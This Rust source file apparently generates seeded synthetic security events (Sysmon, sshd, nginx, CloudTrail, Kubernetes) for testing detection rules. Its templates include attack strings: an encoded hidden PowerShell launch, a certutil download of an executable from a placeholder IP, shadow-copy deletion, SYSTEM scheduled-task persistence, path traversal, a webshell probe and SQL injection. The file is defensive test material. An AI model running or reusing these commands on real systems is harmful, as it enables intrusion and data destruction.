//! Security events to match rules with, as objects with the names their sources give them: drawn from many
//! templates with values drawn anew, most of them benign, some that rules find. The same seed gives the
//! same events.

use rand::RngExt;
use rand::rngs::StdRng;
use serde_json::{Value, json};

const USERS: [&str; 8] = ["alice", "bob", "carol", "svc_backup", "dave", "Administrator", "SYSTEM", "erin"];
const HOSTS: [&str; 6] = ["WS-0142", "WS-0177", "DC-01", "SQL-03", "FILES-02", "WS-0923"];
const WORDS: [&str; 12] = [
    "orders", "invoice", "cart", "search", "profile", "catalog", "report", "login", "assets", "health",
    "export", "notes",
];
/// Images with the command lines they are started with; `{}` is drawn.
const PROCESSES: [(&str, &str, &str); 22] = [
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={} --launch-time-ticks={}"#,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c ""C:\Tools\build\{}.cmd" --target {}""#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NoLogo -File C:\Scripts\{}.ps1 -Days {}",
        r"C:\Windows\System32\svchost.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{}",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {}", r"C:\Windows\System32\svchost.exe"),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{}\Documents\{}.xlsx""#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe shell32.dll,Control_RunDLL C:\Windows\System32\{}.cpl",
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"reg query HKLM\SOFTWARE\Vendor\{} /v Version",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        r#"schtasks /create /sc minute /mo 5 /tn "{}" /tr "C:\ProgramData\{}.exe" /ru SYSTEM"#,
        r"C:\Windows\System32\cmd.exe",
    ),
    (r"C:\Windows\System32\net.exe", r"net use \\FILES-02\share\{}", r"C:\Windows\System32\cmd.exe"),
    (
        r"C:\Windows\System32\vssadmin.exe",
        r"vssadmin delete shadows /all /quiet",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        r"git fetch --prune origin {}",
        r"C:\Program Files\Git\bin\bash.exe",
    ),
    (
        r"C:\Program Files\nodejs\node.exe",
        r#""C:\Program Files\nodejs\node.exe" C:\src\{}\server.js --port {}"#,
        r"C:\Windows\System32\cmd.exe",
    ),
    (r"C:\Python312\python.exe", r"python -m pip install {}=={}.1", r"C:\Windows\System32\cmd.exe"),
    (
        r"C:\Windows\System32\msiexec.exe",
        r"msiexec /i C:\Installers\{}.msi /qn",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        r"certutil -urlcache -split -f http://203.0.113.9/{}.exe C:\Users\Public\{}.exe",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding {}",
        r"C:\Windows\System32\svchost.exe",
    ),
    (r"C:\Windows\System32\ping.exe", r"ping -n {} 10.0.0.1", r"C:\Windows\System32\cmd.exe"),
    (
        r"C:\Program Files\Vendor\Agent\agent.exe",
        r#""C:\Program Files\Vendor\Agent\agent.exe" --run {} --interval {}"#,
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r"backgroundTaskHost.exe -ServerName:App.{}.mca",
        r"C:\Windows\System32\svchost.exe",
    ),
];
const PATHS: [&str; 10] = [
    "/api/v1/{}/{}",
    "/{}?page={}",
    "/static/{}.{}.js",
    "/{}/{}/edit",
    "/healthz",
    "/login?next=/{}",
    "/search?q={}+{}",
    "/../../{}/etc/passwd",
    "/wp-content/plugins/{}/x.php?cmd=id",
    "/{}?id={}%27%20OR%201=1--",
];
const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "okhttp/5.2.1",
    "curl/8.17.0",
    "sqlmap/1.9#stable (https://sqlmap.org)",
];
const CALLS: [(&str, &str); 12] = [
    ("s3.amazonaws.com", "GetObject"),
    ("ec2.amazonaws.com", "DescribeInstances"),
    ("sts.amazonaws.com", "AssumeRole"),
    ("iam.amazonaws.com", "ListRoles"),
    ("kms.amazonaws.com", "Decrypt"),
    ("lambda.amazonaws.com", "Invoke"),
    ("cloudtrail.amazonaws.com", "StopLogging"),
    ("iam.amazonaws.com", "CreateAccessKey"),
    ("signin.amazonaws.com", "ConsoleLogin"),
    ("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress"),
    ("s3.amazonaws.com", "PutBucketPolicy"),
    ("logs.amazonaws.com", "PutLogEvents"),
];

fn one<'a, T>(chance: &mut StdRng, of: &'a [T]) -> &'a T {
    &of[chance.random_range(0..of.len())]
}

fn fill(chance: &mut StdRng, template: &str) -> String {
    let mut text = String::with_capacity(template.len() + 16);
    for (number, part) in template.split("{}").enumerate() {
        if number > 0 {
            if chance.random_range(0..2) == 0 {
                let word: &str = one::<&str>(chance, &WORDS);
                text.push_str(word);
            } else {
                text.push_str(&chance.random_range(1..100_000).to_string());
            }
        }
        text.push_str(part);
    }
    text
}

fn address(chance: &mut StdRng) -> String {
    format!("198.51.{}.{}", chance.random_range(0..255), chance.random_range(1..255))
}

fn guid(chance: &mut StdRng) -> String {
    let (a, b): (u64, u64) = (chance.random(), chance.random());
    format!(
        "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
        a >> 32,
        a >> 16 & 0xffff,
        a & 0xffff,
        b >> 48,
        b & 0xffff_ffff_ffff
    )
}

fn time(chance: &mut StdRng) -> String {
    let at = |most: u32, chance: &mut StdRng| chance.random_range(0..most);
    format!(
        "2026-11-01T{:02}:{:02}:{:02}.{:03}Z",
        at(24, chance),
        at(60, chance),
        at(60, chance),
        at(1000, chance)
    )
}

/// A Windows event as its forwarders write it, about a kilobyte.
pub fn windows(chance: &mut StdRng) -> Value {
    let mut event = match chance.random_range(0..10) {
        0..=4 => process_creation(chance),
        5 => network_connection(chance),
        6 => registry_set(chance),
        7 => image_load(chance),
        _ => logon(chance),
    };
    let host = one(chance, &HOSTS);
    let common = json!({
        "Computer": format!("{host}.corp.example"), "TimeCreated": time(chance), "EventRecordID": chance.random_range(1..90_000_000_u64),
        "Level": 4, "Keywords": "0x8000000000000000", "Task": 1, "Opcode": 0, "Version": 5, "ExecutionProcessID": chance.random_range(400..9000),
    });
    if let (Value::Object(event), Value::Object(common)) = (&mut event, common) {
        event.extend(common);
    }
    event
}

fn sysmon(number: u32, fields: Value) -> Value {
    let mut event = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": number});
    if let (Value::Object(event), Value::Object(fields)) = (&mut event, fields) {
        event.extend(fields);
    }
    event
}

fn process_creation(chance: &mut StdRng) -> Value {
    let (image, command, parent) = *one(chance, &PROCESSES);
    let command = fill(chance, command);
    let (user, hash) = (one(chance, &USERS), chance.random::<u128>());
    sysmon(
        1,
        json!({
            "UtcTime": time(chance), "ProcessGuid": guid(chance), "ProcessId": chance.random_range(400..30_000), "Image": image,
            "FileVersion": "10.0.19041.746", "Description": "Host Process", "Product": "Microsoft Windows Operating System",
            "Company": "Microsoft Corporation", "OriginalFileName": image.rsplit('\\').next(), "CommandLine": command,
            "CurrentDirectory": format!(r"C:\Users\{user}\"), "User": format!(r"CORP\{user}"), "LogonGuid": guid(chance), "LogonId": "0x3e7",
            "TerminalSessionId": 1, "IntegrityLevel": "Medium", "Hashes": format!("SHA256={hash:032X}{hash:032X},IMPHASH={hash:032X}"),
            "ParentProcessGuid": guid(chance), "ParentProcessId": chance.random_range(400..30_000), "ParentImage": parent,
            "ParentCommandLine": format!("\"{parent}\""), "ParentUser": format!(r"CORP\{user}"),
        }),
    )
}

fn network_connection(chance: &mut StdRng) -> Value {
    let (image, _, _) = *one(chance, &PROCESSES);
    sysmon(
        3,
        json!({
            "UtcTime": time(chance), "ProcessGuid": guid(chance), "Image": image, "User": format!(r"CORP\{}", one(chance, &USERS)), "Protocol": "tcp",
            "Initiated": "true", "SourceIp": "10.0.4.17", "SourcePort": chance.random_range(1024..65_000), "DestinationIp": address(chance),
            "DestinationHostname": format!("{}.example.net", one(chance, &WORDS)), "DestinationPort": one(chance, &[443, 80, 53, 445, 4444]),
        }),
    )
}

fn registry_set(chance: &mut StdRng) -> Value {
    let (image, _, _) = *one(chance, &PROCESSES);
    let key = one(
        chance,
        &[
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\{}",
            r"HKU\S-1-5-21\SOFTWARE\Vendor\{}\Setting{}",
            r"HKLM\System\CurrentControlSet\Services\{}\Start",
            r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\{}",
        ],
    );
    sysmon(
        13,
        json!({
            "EventType": "SetValue", "UtcTime": time(chance), "ProcessGuid": guid(chance), "Image": image, "TargetObject": fill(chance, key),
            "Details": "DWORD (0x00000001)", "User": format!(r"CORP\{}", one(chance, &USERS)),
        }),
    )
}

fn image_load(chance: &mut StdRng) -> Value {
    let (image, _, _) = *one(chance, &PROCESSES);
    let library =
        one(chance, &["kernel32.dll", "amsi.dll", "clr.dll", "ntdll.dll", "vaultcli.dll", "taskschd.dll"]);
    sysmon(
        7,
        json!({
            "UtcTime": time(chance), "ProcessGuid": guid(chance), "Image": image, "ImageLoaded": format!(r"C:\Windows\System32\{library}"),
            "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "OriginalFileName": library,
            "User": format!(r"CORP\{}", one(chance, &USERS)),
        }),
    )
}

fn logon(chance: &mut StdRng) -> Value {
    let number = *one(chance, &[4624, 4624, 4624, 4625, 4634, 4672, 4688]);
    json!({
        "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": number,
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": format!("{}$", one(chance, &HOSTS)), "SubjectDomainName": "CORP",
        "TargetUserName": one(chance, &USERS), "TargetDomainName": "CORP", "LogonType": one(chance, &[2, 3, 3, 5, 10]),
        "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": one(chance, &HOSTS),
        "IpAddress": address(chance), "IpPort": chance.random_range(1024..65_000), "ProcessName": "-", "LmPackageName": "-", "KeyLength": 0,
    })
}

/// A record of a server, a proxy or a cloud: the object as it is sent, and the same with the fields that rules
/// name already taken out of its line, for those who read no lines.
pub fn mixed(chance: &mut StdRng) -> (Value, Value) {
    match chance.random_range(0..4) {
        0 => sshd(chance),
        1 => nginx(chance),
        2 => cloudtrail(chance),
        _ => kubernetes(chance),
    }
}

fn twice(event: Value) -> (Value, Value) {
    (event.clone(), event)
}

/// A line of an SSH server.
pub fn sshd(chance: &mut StdRng) -> (Value, Value) {
    let (user, from, port) = (*one(chance, &USERS), address(chance), chance.random_range(1024..65_000));
    let line = match chance.random_range(0..5) {
        0 => format!("Failed password for {user} from {from} port {port} ssh2"),
        1 => format!(
            "Accepted publickey for {user} from {from} port {port} ssh2: ED25519 SHA256:{:032x}",
            chance.random::<u128>()
        ),
        2 => format!("Connection closed by authenticating user {user} {from} port {port} [preauth]"),
        3 => format!("Disconnected from user {user} {from} port {port}"),
        _ => format!("pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"),
    };
    twice(
        json!({"program": "sshd", "host": "bastion-1", "pid": chance.random_range(400..30_000), "timestamp": time(chance), "message": line}),
    )
}

/// A line of a web server; read, the fields that rules name stand beside it.
pub fn nginx(chance: &mut StdRng) -> (Value, Value) {
    let template: &str = one::<&str>(chance, &PATHS);
    let target = fill(chance, template);
    let (from, agent, status, bytes) = (
        address(chance),
        *one(chance, &AGENTS),
        *one(chance, &[200, 200, 200, 304, 404, 500]),
        chance.random_range(0..90_000),
    );
    let line = format!(
        "{from} - - [01/Nov/2026:12:00:00 +0000] \"GET {target} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\""
    );
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    let whole = format!("{path}?{query}");
    let read = json!({
        "program": "nginx", "host": "web-1", "message": line, "c-ip": from, "cs-method": "GET", "cs-uri-stem": path,
        "cs-uri-query": if query.is_empty() { path } else { &whole }, "sc-status": status, "sc-bytes": bytes, "cs-user-agent": agent, "cs-referer": "-",
    });
    (json!({"program": "nginx", "host": "web-1", "message": line}), read)
}

/// A call as CloudTrail records it.
pub fn cloudtrail(chance: &mut StdRng) -> (Value, Value) {
    let (source, name) = *one(chance, &CALLS);
    let user = *one(chance, &USERS);
    twice(json!({
        "eventVersion": "1.10", "eventTime": time(chance), "eventSource": source, "eventName": name, "awsRegion": "eu-central-1",
        "sourceIPAddress": address(chance), "userAgent": "aws-sdk-go-v2/1.39 os/linux", "requestID": guid(chance), "eventID": guid(chance),
        "userIdentity": {"type": one(chance, &["AssumedRole", "IAMUser", "Root"]), "principalId": format!("AROA{:016X}", chance.random::<u64>()),
            "arn": format!("arn:aws:sts::123456789012:assumed-role/{user}/session"), "accountId": "123456789012", "userName": user,
            "sessionContext": {"attributes": {"mfaAuthenticated": "false", "creationDate": time(chance)}}},
        "requestParameters": {"bucketName": format!("{}-prod", one(chance, &WORDS)), "key": fill(chance, "{}/{}.json")},
        "responseElements": null, "readOnly": true, "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "123456789012",
    }))
}

/// A request as the Kubernetes API server records it.
pub fn kubernetes(chance: &mut StdRng) -> (Value, Value) {
    let (verb, resource) = *one(
        chance,
        &[
            ("get", "pods"),
            ("list", "configmaps"),
            ("watch", "endpoints"),
            ("create", "pods"),
            ("get", "secrets"),
            ("update", "leases"),
            ("create", "clusterrolebindings"),
            ("delete", "events"),
            ("patch", "deployments"),
        ],
    );
    let (space, name) =
        (*one(chance, &["default", "kube-system", "shop", "monitoring"]), fill(chance, "{}-{}"));
    twice(json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": guid(chance), "stage": "ResponseComplete",
        "requestURI": format!("/api/v1/namespaces/{space}/{resource}/{name}"), "verb": verb,
        "user": {"username": format!("system:serviceaccount:{space}:{}", one(chance, &WORDS)), "groups": ["system:serviceaccounts", "system:authenticated"]},
        "sourceIPs": [address(chance)], "userAgent": "kubectl/v1.34.1 (linux/amd64)",
        "objectRef": {"resource": resource, "namespace": space, "name": name, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": one(chance, &[200, 200, 201, 403])}, "requestReceivedTimestamp": time(chance),
        "stageTimestamp": time(chance), "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }))
}
